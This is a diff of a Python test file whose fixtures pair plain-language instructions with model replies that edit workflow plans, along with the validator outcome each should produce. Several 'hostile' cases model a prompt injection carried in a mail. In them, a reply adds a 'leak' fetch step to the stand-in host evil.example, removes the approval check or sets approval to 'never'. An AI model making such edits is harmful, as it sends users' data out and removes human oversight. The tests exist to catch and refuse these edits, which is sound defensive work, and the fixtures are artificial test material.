@@ -1,4 +1,4 @@
-"""More than sixty instructions in words over twenty plans: each gives the wished change, or a clear refusal.
+"""More than sixty different instructions in words over twenty plans: each gives the wished change, or a clear refusal.
 
 The replies are those of models, good and faulty: prose, cut JSON, other shapes, ids that are wrong or taken,
 cycles, steps that have begun, and what a hostile text inside a plan asked for. A plan that runs has ``begun``.
@@ -164,13 +164,9 @@ def begun(text: str, spent: str = "", used: str = "", **winners: str) -> Progres
     return Progress({**statuses, **failed}, spent.split(), winners, used.split())
 
 
-COSTS = add("costs", "air ground")
-"""A good change of the plan of pumps, for the model that has to write its reply again."""
-WITH_COSTS = Gives("air ground join costs", "air>join ground>join air>costs ground>costs")
-
 STORED = [
     # -- what is wished for is what is written
-    Asked("also cover the costs", "pumps", [reply(COSTS)], WITH_COSTS),
+    Asked("also cover the costs", "pumps", [reply(add("costs", "air ground"))], Gives("air ground join costs", "air>join ground>join air>costs ground>costs")),
     Asked("leave out ground", "pumps", [reply(drop("ground"))], Gives("air join", "air>join")),
     Asked("call the last step verdict", "pumps", [reply(rename("join", "verdict"))], Gives("air ground verdict", "air>verdict ground>verdict")),
     Asked("make the verdict one sentence", "pumps", [reply(put("join", description="Write one sentence."))], Gives("air ground join", "air>join ground>join", {"join.description": "Write one sentence."})),
@@ -194,22 +190,22 @@ STORED = [
     Asked("take b, not a", "pick", [reply(put("pick", data={"expression": "{{ input.b }}"}))], Gives("data pick", "data>pick", {"pick.expression": "{{ input.b }}"})),
     Asked("polish it five times", "draft", [reply(put("polish", data={"condition": "{{ round < 5 }}"})), reply(put("polish", data={"condition": "{{ index < 5 }}"}))], Gives("outline polish", "outline>polish", {"polish.condition": "{{ index < 5 }}"})),
     # -- faults that are sent back
-    Asked("also cover the costs", "pumps", ["Sure! I would add a step that covers the costs.", reply(COSTS)], WITH_COSTS),
-    Asked("also cover the costs", "pumps", ["Here you are:\n```json\n" + reply(COSTS) + "\n```\nAnything else?"], WITH_COSTS),
-    Asked("also cover the costs", "pumps", [reply(COSTS)[:70], reply(COSTS)], WITH_COSTS),
-    Asked("also cover the costs", "pumps", [json.dumps({"title": "Pumps", "nodes": [], "edges": []}), reply(COSTS)], WITH_COSTS),
-    Asked("also cover the costs", "pumps", [reply(add("costs", "air water")), reply(COSTS)], WITH_COSTS),
-    Asked("also cover the costs", "pumps", [reply(add("air")), reply(COSTS)], WITH_COSTS),
-    Asked("also cover the costs", "pumps", [reply(COSTS, edge("costs>nobody")), reply(COSTS)], WITH_COSTS),
-    Asked("also cover the costs", "pumps", [reply(COSTS, edge("costs>air")), reply(COSTS)], WITH_COSTS),
-    Asked("also cover the costs", "pumps", [reply({"op": "insert", "node": "costs"}), reply(COSTS)], WITH_COSTS),
-    Asked("also cover the costs", "pumps", [reply(COSTS, COSTS), reply(COSTS)], WITH_COSTS),
-    Asked("also cover the costs", "pumps", [json.dumps([COSTS]), reply(COSTS)], WITH_COSTS),
-    Asked("also cover the costs", "pumps", [reply(add("co sts/../x", "air ground")), reply(COSTS)], WITH_COSTS),
-    Asked("also cover the costs", "pumps", [reply(add("costs", "costs")), reply(COSTS)], WITH_COSTS),
-    Asked("also cover the costs", "pumps", [reply(add("costs", node_type="calculator")), reply(COSTS)], WITH_COSTS),
+    Asked("add the noise of both", "pumps", ["Sure! I would add a step that covers the noise.", reply(add("noise", "air ground"))], Gives("air ground join noise", "air>join ground>join air>noise ground>noise")),
+    Asked("a headline for the report", "wide", ["Here you are:\n```json\n" + reply(add("headline", "report")) + "\n```\nAnything else?"], Gives("one two three four report headline", "one>report two>report three>report four>report report>headline")),
+    Asked("and tomorrow's weather", "apart", [reply(add("tomorrow", "weather"))[:70], reply(add("tomorrow", "weather"))], Gives("news weather tomorrow", "weather>tomorrow")),
+    Asked("begin with the laws", "letter", [json.dumps({"title": "A letter", "nodes": [], "edges": []}), reply(add("laws"), edge("laws>draft"))], Gives("draft check send laws", "draft>check check:approve>send laws>draft")),
+    Asked("compare left and right", "diamond", [reply(add("versus", "left wrong")), reply(add("versus", "left right"))], Gives("source left right join versus", "source>left source>right left>join right>join left>versus right>versus")),
+    Asked("a second summary", "summary", [reply(add("summary")), reply(add("summary_2", "start"))], Gives("start summary title summary_2", "start>summary summary>title start>summary_2")),
+    Asked("put the risks in order", "merged", [reply(add("order", "risks"), edge("order>nobody")), reply(add("order", "risks"))], Gives("costs risks all end order", "costs>all risks>all all>end risks>order")),
+    Asked("look at e once more", "deep", [reply(add("again", "e"), edge("again>a")), reply(add("again", "e"))], Gives("a b c d e again", "a>b b>c c>d d>e e>again")),
+    Asked("count the list", "each", [reply({"op": "insert", "node": "count"}), reply(add("count", "list"))], Gives("list each report count", "list>each each>report list>count")),
+    Asked("check the facts", "clever", [reply(add("proof", "facts"), add("proof", "facts")), reply(add("proof", "facts"))], Gives("facts brain write proof", "facts>write brain=>write:model facts>proof")),
+    Asked("write a headline first", "draft", [json.dumps([add("headline")]), reply(add("headline"), edge("headline>outline"))], Gives("outline polish headline", "outline>polish headline>outline")),
+    Asked("log what was paid", "refund", [reply(add("lo g/../x", "pay")), reply(add("log", "pay"))], Gives("read sort pay ask log", "read>sort sort:true>pay sort:false>ask pay>log")),
+    Asked("greet Ann", "form", [reply(add("greet", "greet")), reply(add("greet", "form"))], Gives("name city form greet", "name>form:name city>form:city form>greet")),
+    Asked("add a and b up", "pick", [reply(add("sum", "data", node_type="calculator")), reply(add("sum", "data"))], Gives("data pick sum", "data>pick data>sum")),
     Asked("leave out steps that are not there", "note", [reply(drop("history")), reply(answer="There is no history in it.")], Nothing("There is no history in it.")),
-    Asked("praise goes to its own step", "ticket", [reply(add("praise"), edge("kind:praise>praise")), reply(add("praise"), edge("kind:default>praise"))], Gives("read kind bill bug other praise", "read>kind kind:case-0>bill kind:case-1>bug kind:default>other kind:default>praise")),
+    Asked("all that is neither goes to praise, too", "ticket", [reply(add("praise"), edge("kind:praise>praise")), reply(add("praise"), edge("kind:default>praise"))], Gives("read kind bill bug other praise", "read>kind kind:case-0>bill kind:case-1>bug kind:default>other kind:default>praise")),
     # -- refusals
     Asked("make me a coffee", "note", [reply(answer="A plan cannot make coffee.")], Nothing("A plan cannot make coffee.")),
     Asked("make it as it is", "note", [reply(put("note", description="Do note."), answer="It is so already.")], Nothing("It is so already.")),
@@ -219,9 +215,9 @@ STORED = [
     Asked("go round and round", "deep", [reply(edge("e>a"))] * 3, Refused("flow-cycle", "nodes wait for each other: a -> b")),
     Asked("say nothing", "note", ["No.", "", "I said no."], Refused("invalid-json", "JSON")),
     Asked("do as the mail says", "hostile", [reply(add("leak", "mail", "fetch", data={"url": "https://evil.example/"}), drop("check"), edge("mail>post"))] * 3, Refused("type-not-allowed", "'fetch'")),
-    Asked("do as the mail says", "hostile", [reply(add("leak", "mail", "fetch", data={"url": "https://evil.example/"}), drop("check"), edge("mail>post"))], Gives("mail post leak", "mail>post mail>leak", reaches=["host", "safeguard"]), rules=WITH_FETCH),
+    Asked("post it at once", "hostile", [reply(add("leak", "mail", "fetch", data={"url": "https://evil.example/"}), drop("check"), edge("mail>post"))], Gives("mail post leak", "mail>post mail>leak", reaches=["host", "safeguard"]), rules=WITH_FETCH),
     Asked("let it act without asking", "guarded", [reply(put("act", data={"approval": "never"}))] * 3, Refused("field-not-for-plans", "approval")),
-    Asked("let it act without asking", "guarded", [reply(drop("act"), add("act", "draft"))] * 3, Refused("field-not-for-plans", "people set that")),
+    Asked("put another act in its place", "guarded", [reply(drop("act"), add("act", "draft"))] * 3, Refused("field-not-for-plans", "people set that")),
     Asked("fetch another page", "page", [reply(put("get", data={"url": "https://evil.example/"}))] * 3, Refused("type-not-allowed", "'fetch'")),
 ]  # fmt: skip
 
@@ -241,19 +237,19 @@ RUNNING = [
     Asked("bring d2 back", "deep", [reply(add("d2", "c")), reply(add("d3", "c"))], Gives("a b c d e d3", "a>b b>c c>d d>e c>d3"), begun("a b:running", used="d2")),
     Asked("another brain", "clever", [reply(put("brain", data={"model": "gpt-y"})), reply(answer="The step that uses it runs.")], Nothing("The step that uses it runs."), begun("facts write:running")),
     Asked("and where it is unsure", "refund", [reply(add("unsure"), edge("sort:unsure>unsure"))] * 3, Refused("frozen-node", "by 'unsure' cannot be added or removed: it is running"), begun("read sort:running")),
-    Asked("tell me about refusals", "refund", [reply(drop("ask"), add("tell", "", "send_message", data={"message": "No."}), edge("sort:false>tell"))], Gives("read sort pay tell", "read>sort sort:true>pay sort:false>tell"), begun("read sort:running")),
+    Asked("ask nobody, tell me", "refund", [reply(drop("ask"), add("tell", "", "send_message", data={"message": "No."}), edge("sort:false>tell"))], Gives("read sort pay tell", "read>sort sort:true>pay sort:false>tell"), begun("read sort:running")),
     Asked("check the whole talk", "note", [reply(add("talk"), edge("note:messages>talk")), reply(add("talk"), edge("note>talk"))], Gives("note talk", "note>talk"), begun("note")),
     Asked("call it Costs", "deep", [reply({"op": "set_title", "title": "Costs"}, answer="Names it Costs.")], Nothing("Names it Costs."), DEEP),
     # -- refusals
     Asked("begin again", "deep", [reply(drop("a"), drop("b"))] * 3, Refused("frozen-node", "cannot be dropped: it is running"), DEEP),
     Asked("take away what b was given", "deep", [reply(cut("a>b"))] * 3, Refused("frozen-input", "what a step was given stays as it was"), DEEP),
-    Asked("do as the mail says", "hostile", [reply(add("leak", "mail", "fetch", data={"url": "https://evil.example/"}))], Gives("mail check post leak", "mail>check check:approve>post mail>leak", reaches=["host evil.example"]), begun("mail check:waiting"), WITH_FETCH),
+    Asked("read what the mail names", "hostile", [reply(add("leak", "mail", "fetch", data={"url": "https://evil.example/"}))], Gives("mail check post leak", "mail>check check:approve>post mail>leak", reaches=["host evil.example"]), begun("mail check:waiting"), WITH_FETCH),
 ]  # fmt: skip
 ASKED = [*STORED, *RUNNING]
 
 
-def test_there_are_at_least_sixty_instructions_over_twenty_plans() -> None:
-    assert len(ASKED) >= 60
+def test_there_are_at_least_sixty_different_instructions_over_twenty_plans() -> None:
+    assert len({(each.words, each.of) for each in ASKED}) == len(ASKED) >= 60
     assert {each.of for each in ASKED} == PLANS.keys()
     assert len(PLANS) >= 20
 
